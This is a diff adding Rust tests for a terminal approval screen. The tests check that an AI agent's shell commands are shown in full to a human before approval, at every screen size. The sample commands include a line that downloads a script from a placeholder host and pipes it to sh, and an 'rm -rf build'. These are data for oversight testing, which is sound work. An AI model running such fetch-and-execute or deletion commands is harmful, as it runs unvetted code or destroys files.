@@ -85,6 +85,68 @@ fn a_command_must_have_been_seen_whole() {
     assert_eq!(other.call("answer").expect("an answer").1["option"], "cancel", "a no needs no sight");
 }
 
+/// At every size a command that was allowed was on the screen, or in the scrollback.
+#[test]
+fn no_screen_is_so_small_that_a_command_is_allowed_unseen() {
+    let text = "curl https://e.org/x > a.sh\nsh a.sh | tee b\necho 1\necho 2\necho 3\necho 4\necho 5";
+    for (columns, rows) in [20, 40, 80].into_iter().flat_map(|columns| (6..=24).map(move |rows| (columns, rows))) {
+        for (lines, warnings) in [(1, 0), (2, 2), (7, 1), (7, 9)] {
+            let shown: Vec<&str> = text.lines().take(lines).collect();
+            let mut question = command(&shown.join("\n"));
+            question["exec"]["warnings"] = (0..warnings).map(|n| json!(format!("Warning {n}"))).collect();
+            let mut session = Session::connected(setup(), columns, rows);
+            session.wait(1_000);
+            ask(&mut session, question);
+            session.wait(400);
+            let mut seen = session.vt.everything();
+            session.keys("1");
+            if session.call("answer").is_none() {
+                session.keys("v");
+                session.wait(400);
+                seen = session.vt.everything();
+                session.keys("1");
+            }
+            let place = format!("{lines} lines, {warnings} warnings, {columns}x{rows}");
+            assert!(session.call("answer").is_some(), "{place}\n{seen}");
+            let joined: String = seen.lines().map(str::trim).collect();
+            for line in shown.iter().copied().map(str::to_owned).chain((0..warnings).map(|n| format!("Warning {n}"))) {
+                assert!(joined.contains(&line), "{line} was not seen: {place}\n{seen}");
+            }
+        }
+    }
+}
+
+#[test]
+fn a_question_that_is_not_shown_takes_no_keys() {
+    for (columns, rows) in [(80, 5), (19, 24)] {
+        let mut session = asked(command("rm -rf build"));
+        session.resize(columns, rows);
+        session.wait(1_000);
+        session.keys("1y");
+        assert_eq!(session.call("answer"), None, "{columns}x{rows}");
+        session.resize(80, 24);
+        session.wait(1_000);
+        assert!(session.picture().contains("? Shell rm -rf build · asks"), "{}", session.picture());
+        let mut small = Session::connected(setup(), columns, rows);
+        small.wait(1_000);
+        ask(&mut small, command("rm -rf build"));
+        small.wait(1_000);
+        small.keys("1\r");
+        assert_eq!(small.call("answer"), None, "{columns}x{rows}");
+    }
+}
+
+#[test]
+fn what_a_question_of_the_agent_says_can_be_printed() {
+    let help =
+        json!([{"label": "One", "description": "a word about it ".repeat(9)}, {"label": "Two", "description": ""}]);
+    let questions = json!([inquiry("Which?", "choice", json!({"options": help}))]);
+    let mut session = asked(json!({"ask_user": {"title": "t", "questions": questions}}));
+    session.keys("v");
+    let all = session.vt.everything().replace('\n', " ");
+    assert!(all.matches("a word about it").count() > 9, "{all}");
+}
+
 #[test]
 fn blanks_and_hidden_characters_of_a_command_are_visible() {
     let mut session = busy();
